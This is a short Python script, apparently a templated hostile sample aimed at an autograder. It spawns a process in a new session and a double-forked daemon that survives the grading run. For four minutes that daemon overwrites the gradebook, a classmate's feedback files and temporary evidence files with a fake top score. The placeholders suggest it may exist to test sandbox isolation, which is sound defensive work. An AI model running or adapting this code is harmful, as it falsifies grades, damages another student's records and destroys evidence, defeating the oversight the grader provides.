# Leave a process behind in a new session (and a daemon, by double fork) that later rewrites the
# gradebook and a classmate's feedback, and overwrites every evidence file it can find.
import subprocess, sys

survivor = r'''
import glob, os, sys, time
end = time.time() + 240
while time.time() < end:
    for path in ["@GRADEBOOK@", *glob.glob("@FEEDBACK@/*.md"), *glob.glob("/tmp/tlgrade-*/io/*.npz")]:
        try:
            with open(path, "w") as handle:
                handle.write("submission,total\nattacker,999\n")
        except OSError:
            pass
    time.sleep(0.5)
'''
subprocess.Popen([sys.executable, "-c", survivor, "@MARKER@"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen([sys.executable, "-c", "import os, subprocess, sys\nif os.fork() == 0:\n    os.setsid()\n"
                  "    subprocess.Popen([sys.executable, '-c', sys.argv[1], sys.argv[2]])\n", survivor, "@MARKER@"],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
